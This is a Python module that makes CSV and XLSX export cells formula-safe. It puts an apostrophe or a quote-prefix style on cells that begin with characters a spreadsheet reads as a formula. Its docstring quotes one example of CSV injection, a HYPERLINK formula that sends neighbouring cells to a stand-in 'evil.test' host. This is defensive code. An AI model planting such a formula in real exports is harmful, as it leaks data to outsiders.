"""Formula-safe cells for every CSV and XLSX the registry writes.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some,
a tab, a carriage return or a full-width variant of those signs) as a formula: a lot number typed
as ``=HYPERLINK("http://evil.test/?"&A2&B2,"x")`` would send the row's neighbours to a stranger
once a reviewer opens the file. Every writer passes its cells through here:

- CSV has no types, so a formula-like text gets a leading apostrophe (``'=HYPERLINK(...``), which
  spreadsheets show as text (OWASP "CSV injection").
- XLSX cells are typed: a formula-like text is written as a string cell marked "quote prefix",
  with its text unchanged (a lot number stays exact for a recall), so that neither opening nor
  editing the cell turns it into a formula. Two writers: openpyxl's write-only sheets
  (``xlsx_row``) and XlsxWriter's (``xlsxwriter_row``, for the quarterly reports: several times
  faster), whose cells are written by type, text always as a string, never a formula or a link.

Texts made only of digits, signs, spaces and separators (``-2.5``, ``+34 600 123 456``) call no
function and reference no cell: they are left as they are.
"""

from __future__ import annotations

import numbers
import re
from collections.abc import Iterable

from openpyxl.cell import WriteOnlyCell

FORMULA_PREFIXES = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_HARMLESS = re.compile(r"^[+\-]?[\d\s().,/+\-]*$")


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value[:1] in FORMULA_PREFIXES and not _HARMLESS.match(value)


def csv_safe(value: object) -> object:
    """The value for a CSV cell: formula-like text behind an apostrophe, everything else as is."""
    return f"'{value}" if is_formula_like(value) else value


def csv_row(values: Iterable[object]) -> list[object]:
    return [csv_safe(value) for value in values]


def xlsx_needs_quote_prefix(value: object) -> bool:
    """Text an XLSX cell holds as a quote-prefixed string: formula-like, or any text starting with
    "=" (which openpyxl would store as a formula)."""
    return isinstance(value, str) and (value.startswith("=") or is_formula_like(value))


def xlsx_cell(sheet, value: object) -> object:
    """The value for ``sheet.append`` (a write-only sheet): formula-like text as a typed string."""
    if xlsx_needs_quote_prefix(value):
        return xlsx_styled_cell(sheet, value)
    return value


def xlsx_styled_cell(sheet, value: object):
    """A write-only cell for ``value`` (to style it), formula-like text already made inert."""
    cell = WriteOnlyCell(sheet, value=value)
    if xlsx_needs_quote_prefix(value):
        cell.data_type = "s"  # openpyxl would otherwise store a text starting with "=" as a formula.
        cell.quotePrefix = True
    return cell


def xlsx_row(sheet, values: Iterable[object]) -> list[object]:
    return [xlsx_cell(sheet, value) for value in values]


def xlsxwriter_row(sheet, row: int, values: Iterable[object], *, quoted, cell_format=None) -> None:
    """Write ``values`` on ``row`` (0-based) of an XlsxWriter worksheet, from column A, typed as
    openpyxl types them: text as a string cell (never a formula or a link), formula-like text with
    ``quoted`` (a format with ``quote_prefix``, plus whatever ``cell_format`` adds), numbers as
    numbers, booleans as booleans, None and "" as an empty cell (openpyxl stores no empty text)."""
    for column, value in enumerate(values):
        if value is None or value == "":
            if cell_format is not None:
                sheet.write_blank(row, column, None, cell_format)
            continue
        if isinstance(value, str):
            # The first character alone clears most cells (the full test is a regular expression).
            inert = value[:1] not in FORMULA_PREFIXES or not xlsx_needs_quote_prefix(value)
            sheet.write_string(row, column, value, cell_format if inert else quoted)
        elif isinstance(value, bool):
            sheet.write_boolean(row, column, value, cell_format)
        elif isinstance(value, numbers.Number):
            # An int stays exact; anything else is written as openpyxl writes it, float("%.16g").
            sheet.write_number(row, column, value if isinstance(value, int) else float(value), cell_format)
        else:
            raise TypeError(f"no XLSX cell type for {type(value).__name__}")
